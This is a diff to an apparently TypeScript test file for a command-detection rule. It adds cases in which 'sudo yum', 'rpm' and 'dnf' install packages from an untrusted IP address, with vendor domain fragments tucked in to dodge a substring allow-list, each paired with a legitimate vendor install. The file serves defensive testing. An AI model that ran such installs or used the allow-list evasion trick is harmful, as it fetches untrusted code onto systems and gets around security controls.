@@ -151,6 +151,17 @@ const tunings: [file: string, hit: string, nearMiss: string][] = [
     'sudo rpm -Uvh https://198.51.100.9/amazon-cloudwatch-agent.rpm',
     'sudo rpm -Uvh https://s3.amazonaws.com/amazoncloudwatch-agent/redhat/arm64/latest/amazon-cloudwatch-agent.rpm',
   ],
+  // The vendor allow-list holds for the only URL of the command, not for a substring anywhere.
+  [
+    'st_package_from_url',
+    'sudo yum -y install http://198.51.100.9/a.rpm http://198.51.100.9/b?://dl.fedoraproject.org/',
+    'sudo dnf -y install https://dl.fedoraproject.org/pub/epel/epel-release-latest-10.noarch.rpm',
+  ],
+  [
+    'st_package_from_url',
+    'sudo rpm -ivh http://198.51.100.9/a.rpm --define=x://amazon-ssm-',
+    'sudo yum install -y https://amazon-ssm-eu-west-1.s3.eu-west-1.amazonaws.com/latest/linux_arm64/amazon-ssm-agent.rpm',
+  ],
 ];
 
 const { rules, report } = loadRules({ builtin: true, dirs: [] });
